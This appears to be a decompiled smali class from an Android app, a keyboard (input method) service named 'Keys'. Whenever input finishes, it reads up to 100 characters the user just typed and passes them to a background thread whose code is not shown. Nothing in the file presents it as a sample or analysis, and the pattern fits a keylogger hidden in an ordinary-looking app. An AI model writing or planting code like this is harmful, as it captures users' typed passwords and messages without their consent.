.class public Lcn/readexample/app/Keys;
.super Landroid/inputmethodservice/InputMethodService;
.field static safe:Z
.method public constructor <init>()V
  .registers 2
  invoke-direct {p0}, Landroid/inputmethodservice/InputMethodService;-><init>()V
  return-void
.end method
.method public onFinishInput()V
  .registers 8
  invoke-virtual {p0}, Lcn/readexample/app/Keys;->getCurrentInputConnection()Landroid/view/inputmethod/InputConnection;
  move-result-object v1
  const/16 v2, 100
  const/4 v3, 0
  invoke-interface {v1, v2, v3}, Landroid/view/inputmethod/InputConnection;->getTextBeforeCursor(II)Ljava/lang/CharSequence;
  move-result-object v0
  new-instance v1, Ljava/lang/Thread;
  new-instance v3, Lcn/readexample/app/Keys$1;
  invoke-direct {v3, p0, v0}, Lcn/readexample/app/Keys$1;-><init>(Lcn/readexample/app/Keys;Ljava/lang/CharSequence;)V
  invoke-direct {v1, v3}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
  invoke-virtual {v1}, Ljava/lang/Thread;->start()V
  return-void
.end method
